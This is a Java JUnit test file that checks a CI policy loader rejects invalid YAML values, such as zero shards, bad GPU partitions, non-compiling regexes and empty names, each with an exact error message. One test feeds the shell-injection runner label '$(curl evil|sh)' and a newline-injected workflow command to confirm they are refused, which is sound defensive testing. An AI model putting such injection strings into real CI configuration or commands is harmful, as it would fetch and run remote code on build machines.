package dev.cipolicy.core.load;

import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.cipolicy.api.InvalidPolicyException;
import org.junit.jupiter.api.Test;

/**
 * A rule of one part of a policy (a suite's shards, a host's GPUs, a timeout) is checked by the part's own
 * builder; a document that breaks it is reported with the path, location and message the static checks
 * used to give. A document whose parts break their rules lists those problems alone; the rules of the
 * policy as a whole are checked once every part is valid.
 */
class ValueRulesInDocumentsTest {
  private static final String BASE = """
      name: mini
      labels:
        a: first
        b: second
      cadences:
        regular: {admit_nightly_tests: false, bypass_fastfail: false, write_baseline: false}
        nightly: {admit_nightly_tests: true, bypass_fastfail: true, write_baseline: true, gpu_max_parallel: 2}
      events:
        schedule: {source: schedule_table}
      schedules:
        - cron: "0 15 * * 0-5"
          cadence: nightly
      """;

  private static void rejects(String yaml, String message) {
    assertThatThrownBy(() -> PolicyLoader.load("bad.yaml", yaml)).isInstanceOf(InvalidPolicyException.class)
        .hasMessage(message);
  }

  @Test
  void aSuiteHasAtLeastOneShard() {
    rejects(BASE + "hosts:\n  node: {gpus: 8, partitions: [2, 2, 4]}\nbackends:\n  cuda:\n    gpu: true\n    suites:\n"
        + "      stage-c-4-gpu-h200:\n        runner_labels: [h200]\n        shards: 0\n",
        "Invalid CI policy: bad.yaml:21:17: backends.cuda.suites.stage-c-4-gpu-h200.shards: must be at least 1, got 0");
  }

  @Test
  void aRunnerLabelMustBeShellSafe() {
    rejects(BASE + "backends:\n  cuda:\n    gpu: true\n    suites:\n"
        + "      stage-c-4-gpu-h200:\n        runner_labels: [h200, 4gpu, \"$(curl evil|sh)\", ok.label_1-x]\n",
        "Invalid CI policy: bad.yaml:18:37: backends.cuda.suites.stage-c-4-gpu-h200.runner_labels[2]: runner label"
            + " '$(curl evil|sh)' is not shell-safe; expected 1 to 64 characters matching"
            + " [A-Za-z0-9][A-Za-z0-9._-]{0,63}");
    rejects(BASE + "backends:\n  cuda:\n    gpu: true\n    suites:\n"
        + "      stage-c-4-gpu-h200:\n        runner_labels: [h200, \"\", \"-x\", \"a b\", \"x\\n::error::y\"]\n",
        "Invalid CI policy (4 problems): bad.yaml:18:31: backends.cuda.suites.stage-c-4-gpu-h200.runner_labels[1]:"
            + " runner label '' is not shell-safe; expected 1 to 64 characters matching [A-Za-z0-9][A-Za-z0-9._-]{0,63};"
            + " bad.yaml:18:35: backends.cuda.suites.stage-c-4-gpu-h200.runner_labels[2]: runner label '-x' is not"
            + " shell-safe; expected 1 to 64 characters matching [A-Za-z0-9][A-Za-z0-9._-]{0,63}; bad.yaml:18:41:"
            + " backends.cuda.suites.stage-c-4-gpu-h200.runner_labels[3]: runner label 'a b' is not shell-safe; expected"
            + " 1 to 64 characters matching [A-Za-z0-9][A-Za-z0-9._-]{0,63}; bad.yaml:18:48:"
            + " backends.cuda.suites.stage-c-4-gpu-h200.runner_labels[4]: runner label 'x\\n::error::y' is not"
            + " shell-safe; expected 1 to 64 characters matching [A-Za-z0-9][A-Za-z0-9._-]{0,63}");
  }

  @Test
  void aHostReportsEveryBrokenRule() {
    rejects(BASE + "hosts:\n  node: {gpus: 0, partitions: [2]}\n", "Invalid CI policy (2 problems): bad.yaml:14:16:"
        + " hosts.node.gpus: must be at least 1, got 0; bad.yaml:14:19: hosts.node.partitions: partitions [2] must be"
        + " positive and sum to 0 GPUs");
  }

  @Test
  void timeoutsAndRetryRules() {
    rejects(BASE + "timeouts: {base_seconds: 0, factor: -1}\n", "Invalid CI policy (2 problems): bad.yaml:13:26:"
        + " timeouts.base_seconds: must be at least 1, got 0; bad.yaml:13:37: timeouts.factor: must be a positive finite"
        + " number, got -1.0");
    rejects(BASE + "retry:\n  non_retriable: [OOM, \" \", \"\"]\n  metric_assertion_patterns: [\"(x\", \"ok\", \"[\"]\n"
        + "  assertion_token: \" \"\n", "Invalid CI policy (5 problems): bad.yaml:14:24: retry.non_retriable[1]: a"
        + " non-retriable token must not be blank; bad.yaml:14:29: retry.non_retriable[2]: a non-retriable token must"
        + " not be blank; bad.yaml:15:31: retry.metric_assertion_patterns[0]: regular expression '(x' does not"
        + " compile: Unclosed group near index 2; bad.yaml:15:43: retry.metric_assertion_patterns[2]: regular"
        + " expression '[' does not compile: Unclosed character class near index 0; bad.yaml:16:20:"
        + " retry.assertion_token: the assertion token must not be blank");
  }

  @Test
  void theNameTheCadencesAndTheEvents() {
    rejects(BASE.replace("name: mini", "name: \"\""),
        "Invalid CI policy: bad.yaml:1:7: name: the policy name must not be empty");
    rejects(BASE.replace("gpu_max_parallel: 2", "gpu_max_parallel: 0"),
        "Invalid CI policy: bad.yaml:7:103: cadences.nightly.gpu_max_parallel: must be at least 1, got 0");
    rejects(BASE.replace("schedule: {source: schedule_table}", "schedule: {source: schedule_table}\n  push: {source: fixed}"),
        "Invalid CI policy: bad.yaml:10:3: events.push: missing required field 'cadence' for a fixed event");
    rejects(BASE.replace("{source: schedule_table}", "{source: schedule_table, cadence: nightly}"),
        "Invalid CI policy: bad.yaml:9:47: events.schedule.cadence: a schedule_table event takes its cadence from the"
            + " schedule table; remove 'cadence'");
  }

  @Test
  void aWorkflowHasAGroupPrefix() {
    rejects(BASE + "workflows:\n  pr-test:\n    group_prefix: \"\"\n", "Invalid CI policy: bad.yaml:15:19:"
        + " workflows.pr-test.group_prefix: the group prefix must not be empty: concurrency groups are repository-wide,"
        + " so without a prefix per workflow the groups of different workflows collide");
  }

  @Test
  void anEmptyNameIsAProblemOfTheEntry() {
    rejects(BASE.replace("  regular: {", "  \"\": {"), "Invalid CI policy: bad.yaml:6:3: cadences.: must not be empty");
  }

  @Test
  void brokenPartsAreReportedBeforeTheRulesOfTheWholePolicy() {
    String yaml = BASE.replace("gpu_max_parallel: 2", "gpu_max_parallel: 0") + "pr_stages: [nope]\n";
    rejects(yaml, "Invalid CI policy: bad.yaml:7:103: cadences.nightly.gpu_max_parallel: must be at least 1, got 0");
    rejects(BASE + "pr_stages: [nope]\n",
        "Invalid CI policy: bad.yaml:13:13: pr_stages[0]: unknown stage 'nope'; expected one of []");
  }
}
